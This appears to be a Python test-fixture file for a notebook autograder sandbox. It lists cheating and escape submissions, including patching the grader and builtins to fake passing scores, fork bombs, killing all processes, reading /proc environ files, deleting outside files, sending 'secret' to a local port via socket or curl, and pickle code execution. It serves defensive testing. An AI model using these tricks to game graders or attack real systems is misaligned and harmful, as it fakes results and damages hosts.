"""Submissions that try to cheat, to break out or to break down: code in an added cell before all answers.

`{canary}` stands for a file outside that must not change, `{port}` for a server of this machine that must hear nothing.
Every notebook's answers are wrong (WRONG below), so whatever scores more than they do alone was gained by tampering.
"""

# Wrong in every exercise, but some behaviours hold: there is something to gain and something to lose.
WRONG = {
    "average": "def average(values):\n    return sum(values) / (len(values) + 1)",
    "softmax": "def softmax(z):\n    return np.exp(z)\n\ndef largest(z):\n    return 0",
    "draw": "def draw(rng, n):\n    return rng.normal(size=n)",
    "shift": 'answer_shift = "A"',
}

IN_PROCESS = {
    "numpy says that all is close": "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True",
    "all random numbers are zero": (
        "class Zero:\n    def __getattr__(self, name): return lambda *a, size=1, **k: np.zeros(size)\n"
        "np.random.default_rng = lambda *a: Zero()"
    ),
    "asserts pass": "import builtins\nbuiltins.AssertionError = type('Never', (Exception,), dict())",
    "isinstance says yes": "import builtins\nbuiltins.isinstance = lambda *a: True",
    "len is one": "import builtins\nbuiltins.len = lambda x: 1",
    "abs is zero": "import builtins\nbuiltins.abs = lambda x: 0.0\nnp.abs = lambda x: np.zeros(np.shape(x))",
    "probes are replaced in the child": (
        "import sys\nsys.modules['autograder.child']._ask = lambda *a: {{'answer': 1.0}}"
    ),
    "answers are replaced in the encoder": (
        "import sys\nm = sys.modules['autograder.child']\nold = m.encode\n"
        "m.encode = lambda value, *a: old({{'answer': [True, 1.0], 'passed': True, 'score': 100}})"
    ),
    "attempt reports success": "import sys\nsys.modules['autograder.child'].attempt = lambda f, *a, **k: True",
    "everything is a ValueError": (
        "import sys\nR = sys.modules['autograder.wire'].Raised\n"
        "sys.modules['autograder.child'].attempt = lambda f, *a, **k: R(('ValueError', 'Exception'))"
    ),
    "the tolerance is raised where it is not": (
        "import sys, types\nsys.modules['autograder.compare'] = types.SimpleNamespace(difference=lambda *a: None)\n"
        "sys.modules['autograder.verdict'] = types.SimpleNamespace(verdict=lambda *a: ('', ''))"
    ),
    "compile compiles something else": (
        "import builtins\nold = builtins.compile\n"
        "builtins.compile = lambda source, *a, **k: old('def ask(rng): return 1.0', '<x>', 'exec')"
    ),
    "exec runs nothing": "import builtins\nbuiltins.exec = lambda *a, **k: None",
    "every call is traced and its return changed": (
        "import sys\nsys.setprofile(lambda frame, event, arg: None)\nsys.settrace(lambda frame, event, arg: None)"
    ),
    "frames above are searched for answers": (
        "import sys\ndef average(values):\n    frame = sys._getframe()\n    while frame:\n"
        "        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):\n"
        "            if hasattr(value, 'expected'): return value.expected\n        frame = frame.f_back\n    return 0"
    ),
    "memory is searched for the reference": (
        "import gc\nfound = [o for o in gc.get_objects() if getattr(o, '__module__', None) == 'reference']\n"
        "def average(values):\n    return found[0](values) if found else None"
    ),
    "the reference is imported": (
        "import sys\nsys.path[:0] = ['/home', '.', '..', '/']\n"
        "try:\n    from reference import *\nexcept ImportError:\n    from solutions import *"
    ),
    "IPython's cell runner is replaced": (
        "get_ipython().run_cell = lambda *a, **k: None\nget_ipython().user_ns = {{}}"
    ),
    "the display hook is replaced": "import sys\nsys.displayhook = lambda value: None",
    "an import hook gives out a forged numpy": (
        "import sys, types\nsys.modules['numpy'] = types.ModuleType('numpy')\nsys.meta_path.clear()"
    ),
    "an exit hook writes a verdict": (
        "import atexit\natexit.register(lambda: open('verdict', 'w').write('passed'))\nprint('SCORE: 100')"
    ),
    "the dictionary type is patched": "import ctypes\nctypes.pythonapi.PyDict_Clear",
}

IDENTITY = {
    "an object equal to everything": (
        "class Same:\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
        "    def __hash__(self): return 0\nW = Same()\naverage = softmax = largest = lambda *a: W"
    ),
    "a float that is equal to everything": (
        "class Same(float):\n    def __eq__(self, other): return True\n    def __sub__(self, other): return 0.0\n"
        "    __rsub__ = __sub__\naverage = lambda values: Same(0)"
    ),
    "an array that is close to everything": (
        "class Close(np.ndarray):\n    def __sub__(self, other): return np.zeros(self.shape)\n"
        "    __rsub__ = __sub__\n    def __array_ufunc__(self, *a, **k): return np.zeros(self.shape)\n"
        "softmax = lambda z: np.zeros(len(z)).view(Close)"
    ),
    "an object whose array changes at each look": (
        "class Moody:\n    def __array__(self, *a, **k): return np.random.random(4)\nsoftmax = lambda z: Moody()"
    ),
    "a list that grows when it is looked at": (
        "class Grows(list):\n    def __iter__(self):\n        while True: yield 0\naverage = lambda v: Grows([0])"
    ),
    "a dict that raises when it is looked at": (
        "class Raises(dict):\n    def items(self): raise MemoryError\naverage = lambda v: Raises(a=1)"
    ),
    "a list that holds itself": "ring = []\nring.append(ring)\naverage = lambda v: ring",
    "a class that claims to be float": (
        "class Claims:\n    __class__ = float\n    def __float__(self): raise SystemExit\naverage = lambda v: Claims()"
    ),
    "a metaclass that says yes": (
        "class Yes(type):\n    def __instancecheck__(cls, x): return True\n"
        "class Any_(metaclass=Yes): pass\naverage = lambda v: Any_"
    ),
    "NaN everywhere": "average = lambda v: float('nan')\nsoftmax = lambda z: z * np.nan\nlargest = lambda z: None",
    "an empty array": "softmax = lambda z: np.array([])\naverage = lambda v: np.array([])",
    "a value for every argument": "average = softmax = largest = draw = lambda *a, **k: (a, k)",
}

EXITS = {
    "os._exit with a good status": "import os\nos._exit(0)",
    "sys.exit": "import sys\nsys.exit(0)",
    "exit in the function": "import os\nfor name in ('average', 'softmax'): globals()[name] = lambda *a: os._exit(0)",
    "SystemExit in the function": "def average(values):\n    raise SystemExit(0)",
    "KeyboardInterrupt in the function": "def softmax(z):\n    raise KeyboardInterrupt",
    "kills itself": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "kills its group": "import os, signal\nos.killpg(0, signal.SIGKILL)",
    "kills everybody": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "kills the first process": "import os, signal\nos.kill(1, signal.SIGKILL)",
    "kills its parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "stops itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "aborts": "import os\nos.abort()",
    "reads a null pointer": "import ctypes\nctypes.string_at(0)",
    "recursion without end": "import sys\nsys.setrecursionlimit(10**9)\ndef average(v): return average(v)\naverage([1])",
}

RESOURCES = {
    "a loop without end": "while True: pass",
    "sleeps for ever": "import time\ntime.sleep(10**6)",
    "swallows every exception for ever": (
        "import time\nwhile True:\n    try:\n        time.sleep(1)\n    except BaseException: pass"
    ),
    "an array of a terabyte": "x = np.ones(10**11)",
    "a list that grows": "x = []\nwhile True: x.append(bytes(10**6))",
    "an answer of a gigabyte": "average = lambda v: np.zeros(10**8)",
    "an answer nested deeply": "x = []\nfor _ in range(10**5): x = [x]\naverage = lambda v: x",
    "an answer of many pieces": "average = lambda v: [[i] for i in range(10**7)]",
    "an integer of a million digits": "average = lambda v: 10**1000000",
    "prints 100 MB": "for _ in range(100): print('x' * 10**6)",
    "writes 100 MB to the descriptor": "import os\nfor _ in range(100): os.write(1, b'x' * 10**6)",
    "forks without end": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError: break",
    "threads without end": (
        "import threading, time\n"
        "try:\n    while True: threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()\n"
        "except RuntimeError: pass"
    ),
    "fills the disk": "with open('big', 'wb') as f:\n    while True: f.write(bytes(10**7))",
    "fills the disk with small files": "i = 0\nwhile True:\n    i += 1\n    open(f'f{{i}}', 'w').close()",
    "a regular expression that explodes": "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')",
    "a background process that stays": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(10**6)\n"
        "    os._exit(0)"
    ),
}

FILES = {
    "overwrites a file outside": "open({canary!r}, 'w').write('changed')",
    "appends to a file outside": "open({canary!r}, 'a').write('changed')",
    "deletes a file outside": "import os\nos.remove({canary!r})",
    "renames a file outside": "import os\nos.rename({canary!r}, {canary!r} + '.gone')",
    "changes the mode of a file outside": "import os\nos.chmod({canary!r}, 0)",
    "truncates a file outside": "import os\nos.truncate({canary!r}, 0)",
    "touches a file outside": "import os\nos.utime({canary!r}, (0, 0))",
    "links to a file outside": "import os\nos.symlink({canary!r}, 'link')\nopen('link', 'w').write('changed')",
    "plants a module for the next one": (
        "import os, site\nfor place in [*site.getsitepackages(), '/usr/lib/python3', '/tmp']:\n    try:\n"
        "        open(os.path.join(place, 'numpy.py'), 'w').write('raise SystemExit')\n    except OSError: pass"
    ),
    "reads what it can of /proc": (
        "import glob\nfor path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/maps'):\n"
        "    try:\n        print(open(path).read())\n    except OSError: pass"
    ),
    "writes into other processes' memory": (
        "import glob\nfor path in glob.glob('/proc/*/mem') + glob.glob('/proc/*/fd/*'):\n    try:\n"
        "        open(path, 'wb').write(b'x')\n    except OSError: pass"
    ),
}

NETWORK = {
    "calls a server of this machine": "import socket\nsocket.create_connection(('127.0.0.1', {port}), 2).send(b'secret')",
    "fetches a page": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/secret', timeout=2)",
    "sends a datagram": (
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', {port}))"
    ),
    "listens": "import socket\ns = socket.socket()\ns.bind(('', 0))\ns.listen()",
    "asks for a raw socket": "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    "runs curl": "import subprocess\nsubprocess.run(['curl', '-m', '2', 'http://127.0.0.1:{port}/secret'])",
}

PROCESSES = {
    "asks for new namespaces": "import ctypes\nassert ctypes.CDLL(None).unshare(0x10000000 | 0x20000) == 0",
    "mounts": "import ctypes\nassert ctypes.CDLL(None).mount(b'x', b'/tmp', b'tmpfs', 0, None) == 0",
    "traces its parent": "import ctypes, os\nassert ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0",
    "runs a shell": "import subprocess\nsubprocess.run('echo changed > {canary}', shell=True)",
    "uses a shell magic": "!echo changed > {canary}",
    "leaves shared memory behind": (
        "from multiprocessing import shared_memory\nshared_memory.SharedMemory('mine', create=True, size=100)"
    ),
    "raises its limits": (
        "import resource\nresource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)\nx = bytes(5 * 10**9)"
    ),
}

FRAME = (
    "import os, struct, sys\nencode = sys.modules['autograder.wire'].encode\n"
    "def frame(value):\n    data = encode(value)\n    return struct.pack('>I', len(data)) + data\n"
)
PROTOCOL = {
    "forged answers on every descriptor": FRAME
    + "for fd in range(3, 200):\n    try:\n        os.write(fd, frame({{'answer': [True, 1.0]}}) * 50)\n"
    "    except OSError: pass",
    "forged results on every descriptor": FRAME
    + "for fd in range(0, 200):\n    try:\n        os.write(fd, frame({{'score': 13, 'max_score': 13, 'done': True}}))\n"
    "    except OSError: pass",
    "a frame that says it is enormous": (
        "import os\nfor fd in range(3, 200):\n    try:\n        os.write(fd, b'\\xff' * 8)\n    except OSError: pass"
    ),
    "garbage on every descriptor": (
        "import os\nfor fd in range(3, 200):\n    try:\n        os.write(fd, os.urandom(1000))\n    except OSError: pass"
    ),
    "closes every descriptor": "import os\nos.closerange(0, 200)",
    "a frame that is never finished": (
        "import os\nfor fd in range(3, 200):\n    try:\n        os.write(fd, b'\\0\\0\\1\\0abc')\n    except OSError: pass"
    ),
    "swallows the questions": (
        "import os, threading\ndef swallow(fd):\n    try:\n        while os.read(fd, 10**6): pass\n    except OSError: pass\n"
        "for fd in range(3, 30): threading.Thread(target=swallow, args=(fd,), daemon=True).start()"
    ),
    "a pickle in the place of an answer": FRAME
    + "class Evil:\n    def __reduce__(self): return (os.system, ('echo changed > {canary}',))\n"
    "average = lambda v: Evil()",
}

CLASSES = {
    "in-process tampering": IN_PROCESS,
    "identity tricks": IDENTITY,
    "exits and signals": EXITS,
    "resources": RESOURCES,
    "file system": FILES,
    "network": NETWORK,
    "other processes": PROCESSES,
    "protocol forgery": PROTOCOL,
}
CASES = [(kind, name, code) for kind, cases in CLASSES.items() for name, code in cases.items()]

# Honest notebooks that look unusual: each has everything right and must get everything.
HONEST = {
    "prints a lot": "for i in range(2000): print(i)",
    "draws a plot": "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
    "shows a widget": "import ipywidgets\nipywidgets.IntSlider()",
    "warns on stderr": "import sys, warnings\nwarnings.warn('careful')\nprint('note', file=sys.stderr)",
    "logs": "import logging\nlogging.basicConfig()\nlogging.error('something')",
    "uses SciPy": "import scipy.special\nassert scipy.special.softmax([0, 0])[0] == 0.5",
    "is slow but in time": "import time\ntime.sleep(0.7)",
    "uses a thread": "import threading\nt = threading.Thread(target=lambda: None)\nt.start()\nt.join()",
    "uses a magic": "%timeit -n1 -r1 1 + 1",
    "fails in an own cell": "1 / 0",
    "has a syntax error in an own cell": "def broken(:",
    "awaits": "import asyncio\nawait asyncio.sleep(0)",
    "keeps state": "count = 0\ndef tick():\n    global count\n    count += 1\ntick()",
    "writes and reads a file": "open('notes.txt', 'w').write('hello')\nassert open('notes.txt').read() == 'hello'",
    "allocates 200 MB": "x = np.ones(25_000_000)\ndel x",
    "has names in other scripts": "größe = 3\nпривет = 'hi'",
    "asks for input": "try:\n    input('your name? ')\nexcept EOFError:\n    pass",
    "sets a seed": "np.random.seed(3)\nimport random\nrandom.seed(3)",
}
